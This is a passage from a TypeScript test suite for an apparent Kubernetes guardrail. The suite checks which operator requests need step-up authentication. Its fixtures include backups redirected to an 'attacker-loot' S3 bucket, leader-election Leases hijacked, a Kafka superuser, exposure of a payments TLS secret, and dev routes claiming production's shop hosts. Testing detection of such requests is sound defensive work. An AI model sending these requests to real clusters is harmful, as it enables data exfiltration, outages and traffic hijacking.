  metadata: { name: 'lock-tfstate-default-platform', namespace: 'dev', labels: { tfstate: 'true', tfstateSecretSuffix: 'platform', tfstateWorkspace: 'default', 'app.kubernetes.io/managed-by': 'terraform' }, ...(holder !== undefined && { annotations: { 'app.terraform.io/lock-info': JSON.stringify({ ID: holder, Operation: 'OperationTypePlan', Who: 'engineer@laptop' }) } }) },
  spec: holder !== undefined ? { holderIdentity: holder } : {},
});
const storage: Entry[] = [
  // A volume copied (day 26): production's database snapshotted, then its snapshot's handle pre-provisioned into dev.
  { op: 'CSI snapshots', what: "a VolumeSnapshot of production's database volume", req: applied(snapshot), need: 'aal3', by: 'volume-snapshots' },
  { op: 'CSI snapshots', what: "a VolumeSnapshotContent with another snapshot's handle, bound to a VolumeSnapshot in dev", req: applied({ apiVersion: 'snapshot.storage.k8s.io/v1', kind: 'VolumeSnapshotContent', metadata: { name: 'dev-restore' }, spec: { deletionPolicy: 'Retain', driver: 'ebs.csi.aws.com', source: { snapshotHandle: 'snap-0a1b2c3d4e5f60718' }, volumeSnapshotRef: { name: 'copy', namespace: 'dev' } } }), need: 'aal3', by: 'volume-snapshots' },
  { op: 'CSI snapshots', what: "production's database snapshot deleted (its content's deletionPolicy deletes the disk snapshot)", req: deleted(snapshot), need: 'aal3', by: 'volume-snapshots' },
  // A controller's leader election taken by a holder that does not exist (day 26: the access broker).
  { op: 'leader election', what: "a controller's Lease replaced with a year-long hold by a holder no replica has", req: replaced({ apiVersion: 'coordination.k8s.io/v1', kind: 'Lease', metadata: { name: 'access-broker-controller', namespace: 'access-broker' }, spec: { holderIdentity: 'ghost', leaseDurationSeconds: 31536000 } }), need: 'aal3', by: 'guardrail:lease_held' },
  { op: 'leader election', what: "a controller's Lease given a year-long duration by a merge patch of that field alone", req: patched(electionLease, { spec: { leaseDurationSeconds: 31536000 } }), need: 'aal3', by: 'guardrail:lease_held' },
  { op: 'leader election', what: "a controller's Lease held for a year by `kubectl patch` (a strategic merge patch)", req: strategic(electionLease, { spec: { holderIdentity: 'ghost', leaseDurationSeconds: 31536000 } }), need: 'aal3', by: 'guardrail:lease_held' },
  { op: 'leader election', what: "a controller's Lease held for a year by `kubectl patch --type json`", req: jsonPatched(electionLease, [{ op: 'replace', path: '/spec/leaseDurationSeconds', value: 31536000 }]), need: 'aal3', by: 'guardrail:lease_held' },
  { op: 'leader election', what: "a controller's Lease held for a year, in protobuf (client-go's encoding for built-in kinds)", req: { ...replaced(electionLease), body: encodeKube({ ...electionLease, spec: { holderIdentity: 'ghost', leaseDurationSeconds: 31536000 } }), headers: { 'content-type': 'application/vnd.kubernetes.protobuf' } }, need: 'aal3', by: 'guardrail:lease_held' },
  // What writes Leases every day: a controller run on a laptop against the dev cluster renews its
  // election every few seconds (15 s), and Terraform's kubernetes state backend sets and clears its
  // lock Lease's holder (no duration) on every plan and apply.
  { op: 'leader election', what: 'a controller run locally with --leader-elect renewing its Lease (15 s)', req: replaced({ apiVersion: 'coordination.k8s.io/v1', kind: 'Lease', metadata: { name: 'a1b2c3d4.example.com', namespace: 'dev' }, spec: { holderIdentity: 'laptop_3f1c', leaseDurationSeconds: 15, renewTime: '2026-12-02T09:14:03.000000Z' } }), need: 'routine' },
  { op: 'Terraform state', what: "the kubernetes backend's lock Lease created with its holder", req: { ...replaced(tfLock('8c5a2f0e')), method: 'POST', path: base(tfLock('8c5a2f0e')) }, need: 'routine' },
  { op: 'Terraform state', what: "the kubernetes backend's lock taken (holder set by an update)", req: replaced(tfLock('8c5a2f0e')), need: 'routine' },
  { op: 'Terraform state', what: "the kubernetes backend's lock released (holder cleared by an update)", req: replaced(tfLock()), need: 'routine' },
  { op: 'Longhorn', what: "the backup-target Setting pointed at the attacker's S3 (every volume's backups)", req: patched({ apiVersion: 'longhorn.io/v1beta2', kind: 'Setting', metadata: { name: 'backup-target', namespace: 'longhorn-system' } }, { value: 's3://attacker-loot@us-east-1/' }), need: 'aal3', by: 'backup-objects' },
  { op: 'Longhorn', what: "a BackupTarget at the attacker's S3", req: applied({ apiVersion: 'longhorn.io/v1beta2', kind: 'BackupTarget', metadata: { name: 'default', namespace: 'longhorn-system' }, spec: { backupTargetURL: 's3://attacker-loot@us-east-1/', credentialSecret: 'attacker-s3', pollInterval: '300s' } }), need: 'aal3', by: 'backup-objects' },
];

// --- Strimzi (kafka.strimzi.io) -----------------------------------------------------------------

const strimzi: Entry[] = [
  {
    op: 'Strimzi',
    what: 'a KafkaUser with All on the cluster and every topic (a superuser by ACL; its password lands in a Secret)',
    req: applied({ apiVersion: 'kafka.strimzi.io/v1beta2', kind: 'KafkaUser', metadata: { name: 'debug', namespace: 'kafka', labels: { 'strimzi.io/cluster': 'events' } }, spec: { authentication: { type: 'scram-sha-512' }, authorization: { type: 'simple', acls: [{ resource: { type: 'cluster' }, operations: ['All'] }, { resource: { type: 'topic', name: '*', patternType: 'literal' }, operations: ['All'] }] } } }),
    need: 'aal2',
    by: 'kafka-access-objects',
  },
  { op: 'Strimzi', what: "the Kafka cluster's superUsers extended (merge patch)", req: patched({ apiVersion: 'kafka.strimzi.io/v1beta2', kind: 'Kafka', metadata: { name: 'events', namespace: 'kafka' } }, { spec: { kafka: { authorization: { type: 'simple', superUsers: ['CN=debug'] } } } }), need: 'aal2', by: 'kafka-access-objects' },
];

// --- Gateway API (gateway.networking.k8s.io) ----------------------------------------------------

const gatewayApi: Entry[] = [
  {
    op: 'Gateway API',
    what: "a ReferenceGrant in payments letting dev's Gateways use its Secrets (the site's TLS key)",
    req: applied({ apiVersion: 'gateway.networking.k8s.io/v1beta1', kind: 'ReferenceGrant', metadata: { name: 'from-dev', namespace: 'payments' }, spec: { from: [{ group: 'gateway.networking.k8s.io', kind: 'Gateway', namespace: 'dev' }], to: [{ group: '', kind: 'Secret' }] } }),
    need: 'aal2',
    by: 'reference-grants',
  },
  { op: 'Gateway API', what: 'an HTTPRoute in dev taking the API server\'s host', req: applied({ apiVersion: 'gateway.networking.k8s.io/v1', kind: 'HTTPRoute', metadata: { name: 'api', namespace: 'dev' }, spec: { parentRefs: [{ name: 'public', namespace: 'istio-ingress' }], hostnames: ['kube.localhost'], rules: [{ backendRefs: [{ name: 'proxy', port: 8080 }] }] } }), need: 'aal3', by: 'guardrail:gated_host_route' },
  { op: 'Gateway API', what: "an HTTPRoute in dev for dev's own host", req: applied({ apiVersion: 'gateway.networking.k8s.io/v1', kind: 'HTTPRoute', metadata: { name: 'web', namespace: 'dev' }, spec: { parentRefs: [{ name: 'public', namespace: 'istio-ingress' }], hostnames: ['web.dev.example.com'], rules: [{ backendRefs: [{ name: 'web', port: 8080 }] }] } }), need: 'routine' },
];

describe('operators: secrets pulled, pushed and decrypted', () => {
  run([...eso, ...secretsCsi, ...keda]);
});
describe('operators: backups and restores', () => {
  run([...velero, ...storage]);
});
describe('operators: code on nodes, in build steps and virtual machines', () => {
  run([...tekton, ...capi, ...kubevirt, ...crossplane]);
});
describe('operators: cloud controllers acting with the cloud account', () => {
  run(cloud);
});
describe('operators: the mesh, gateways, monitoring and Kafka', () => {
  run([...istio, ...gatewayApi, ...prometheus, ...strimzi]);

  // A shared Gateway whose listener admits routes from every namespace (`allowedRoutes.namespaces.from:
  // All`, the default of many ingress charts) serves whichever HTTPRoute claims a hostname: one in dev
  // for production's shop host takes a share of its traffic, its customers' sessions included. Nothing
  // in the request says whose host it is: the example says, in `guardrails.host_owners` (the shop's
  // hostnames belong to `shop` and production's namespaces), and such a route is route_host_not_owned.
  it("Gateway API: an HTTPRoute in dev claiming production's hostname", async () => {
    const e: Entry = {
      op: 'Gateway API',
      what: "an HTTPRoute in dev for production's shop host",
      req: applied({ apiVersion: 'gateway.networking.k8s.io/v1', kind: 'HTTPRoute', metadata: { name: 'shop', namespace: 'dev' }, spec: { parentRefs: [{ name: 'public', namespace: 'istio-ingress' }], hostnames: ['shop.example.com'], rules: [{ matches: [{ path: { type: 'PathPrefix', value: '/checkout' } }], backendRefs: [{ name: 'web', port: 8080 }] }] } }),
      need: 'aal2',
      by: 'guardrail:route_host_not_owned',
    };
    for (const state of Object.keys(STATES) as State[]) judge(e, state, await send(e, state));
  });
});

// --- Hostnames claimed by a namespace that does not own them (guardrails.host_owners) ------------

const OWNED = 'guardrail:route_host_not_owned';
const route = (kind: string, ns: string, hostnames: string[]): Doc => ({ apiVersion: 'gateway.networking.k8s.io/v1', kind, metadata: { name: 'shop', namespace: ns }, spec: { parentRefs: [{ name: 'public', namespace: 'istio-ingress' }], hostnames, rules: [{ backendRefs: [{ name: 'web', port: 8080 }] }] } });
const ingressOf = (ns: string, spec: Record<string, unknown>): Doc => ({ apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { name: 'shop', namespace: ns }, spec: { ingressClassName: 'nginx', ...spec } });
const ruleFor = (host: string) => ({ host, http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'web', port: { number: 80 } } } }] } });
const vs = (ns: string, hosts: string[]): Doc => ({ apiVersion: 'networking.istio.io/v1', kind: 'VirtualService', metadata: { name: 'shop', namespace: ns }, spec: { hosts, gateways: ['istio-ingress/public'], http: [{ route: [{ destination: { host: 'web' } }] }] } });
// networking/v1 generated.proto: Ingress.metadata = 1 (name = 1), .spec = 2, IngressSpec.rules = 3, IngressRule.host = 1:
// what `kubectl create ingress shop -n dev --rule=shop.example.com/*=web:80` sends from kubectl 1.32.
const pbIngress = (host: string) => envelope('networking.k8s.io/v1', 'Ingress', Buffer.concat([lenField(1, lenField(1, 'shop')), lenField(2, lenField(3, lenField(1, host)))]));

const hostClaims: Entry[] = [
  { op: 'host owners', what: 'an HTTPRoute in dev given the shop host by a merge patch', req: patched(route('HTTPRoute', 'dev', []), { spec: { hostnames: ['shop.example.com'] } }), need: 'aal2', by: OWNED },
  { op: 'host owners', what: 'an HTTPRoute in dev given the shop host by a JSON patch', req: jsonPatched(route('HTTPRoute', 'dev', []), [{ op: 'add', path: '/spec/hostnames/-', value: 'SHOP.example.com' }]), need: 'aal2', by: OWNED },
  { op: 'host owners', what: 'an HTTPRoute in dev replaced (PUT) with the shop host', req: replaced(route('HTTPRoute', 'dev', ['web.dev.example.com', 'shop.example.com'])), need: 'aal2', by: OWNED },
  { op: 'host owners', what: 'an HTTPRoute in dev applied server-side with the shop host', req: serverSide(route('HTTPRoute', 'dev', ['shop.example.com'])), need: 'aal2', by: OWNED },
  { op: 'host owners', what: 'an HTTPRoute in dev for a wildcard over the shop host', req: applied(route('HTTPRoute', 'dev', ['*.example.com'])), need: 'aal2', by: OWNED },
  { op: 'host owners', what: "an HTTPRoute in staging for production's service host (day 8's names)", req: applied(route('HTTPRoute', 'cart-staging', ['cart.shop.example.dev'])), need: 'aal2', by: OWNED },
  { op: 'host owners', what: 'a GRPCRoute in dev for a subdomain of the shop', req: applied({ ...route('GRPCRoute', 'dev', ['api.shop.example.com']), apiVersion: 'gateway.networking.k8s.io/v1' }), need: 'aal2', by: OWNED },
  { op: 'host owners', what: 'a TLSRoute in dev for the shop host (TLS passthrough)', req: applied({ ...route('TLSRoute', 'dev', ['shop.example.com']), apiVersion: 'gateway.networking.k8s.io/v1alpha2' }), need: 'aal2', by: OWNED },
  { op: 'host owners', what: 'an Ingress in dev for the shop host', req: applied(ingressOf('dev', { rules: [ruleFor('shop.example.com')] })), need: 'aal2', by: OWNED },
  { op: 'host owners', what: "an Ingress in dev holding the shop host's TLS name only", req: applied(ingressOf('dev', { tls: [{ hosts: ['shop.example.com'], secretName: 'x' }], rules: [ruleFor('web.dev.example.com')] })), need: 'aal2', by: OWNED },
  { op: 'host owners', what: "an Ingress in dev whose ingress-nginx server-alias is the shop host", req: applied({ ...ingressOf('dev', { rules: [ruleFor('web.dev.example.com')] }), metadata: { name: 'shop', namespace: 'dev', annotations: { 'nginx.ingress.kubernetes.io/server-alias': 'shop.example.com' } } }), need: 'aal2', by: OWNED },
  { op: 'host owners', what: 'an Ingress in dev given the shop host by a strategic merge patch', req: strategic(ingressOf('dev', {}), { spec: { rules: [ruleFor('shop.example.com')] } }), need: 'aal2', by: OWNED },
  { op: 'host owners', what: 'kubectl create ingress in dev for the shop host (protobuf)', req: { method: 'POST', path: base(ingressOf('dev', {})), body: pbIngress('shop.example.com'), headers: { 'content-type': 'application/vnd.kubernetes.protobuf' } }, need: 'aal2', by: OWNED },
  { op: 'host owners', what: 'a VirtualService in dev on the shared gateway for the shop host', req: applied(vs('dev', ['shop.example.com'])), need: 'aal2', by: OWNED },
  { op: 'host owners', what: "a VirtualService in dev for every one of the shop's subdomains", req: applied(vs('dev', ['web.dev.example.com', '*.shop.example.com'])), need: 'aal2', by: OWNED },
  { op: 'host owners', what: 'an Istio Gateway in dev serving the shop host', req: applied({ apiVersion: 'networking.istio.io/v1', kind: 'Gateway', metadata: { name: 'shop', namespace: 'dev' }, spec: { selector: { istio: 'ingressgateway' }, servers: [{ port: { number: 443, name: 'https', protocol: 'HTTPS' }, hosts: ['dev/shop.example.com'], tls: { mode: 'SIMPLE', credentialName: 'shop-tls' } }] } }), need: 'aal2', by: OWNED },
  { op: 'host owners', what: 'a ServiceEntry in dev sending the mesh\'s calls to the shop host elsewhere', req: applied({ apiVersion: 'networking.istio.io/v1', kind: 'ServiceEntry', metadata: { name: 'shop', namespace: 'dev' }, spec: { hosts: ['shop.example.com'], ports: [{ number: 443, name: 'https', protocol: 'TLS' }], resolution: 'STATIC', endpoints: [{ address: '203.0.113.9' }] } }), need: 'aal2', by: OWNED },
  // The owners' own routes, and hosts nobody owns.
  { op: 'host owners', what: "the shop team's HTTPRoute for its own host", req: applied(route('HTTPRoute', 'shop', ['shop.example.com', 'www.shop.example.com'])), need: 'routine' },
  { op: 'host owners', what: "staging's HTTPRoute for its own service host (day 8's names)", req: applied(route('HTTPRoute', 'cart-staging', ['cart.staging.shop.example.dev'])), need: 'routine' },
  { op: 'host owners', what: "an Ingress in dev for dev's own host", req: applied(ingressOf('dev', { tls: [{ hosts: ['web.dev.example.com'], secretName: 'web' }], rules: [ruleFor('web.dev.example.com')] })), need: 'routine' },
  { op: 'host owners', what: "a VirtualService in dev for an in-mesh name", req: applied(vs('dev', ['web.dev.svc.cluster.local'])), need: 'routine' },
];

describe('operators: hostnames claimed outside their owners (guardrails.host_owners)', () => {
  run(hostClaims);
});
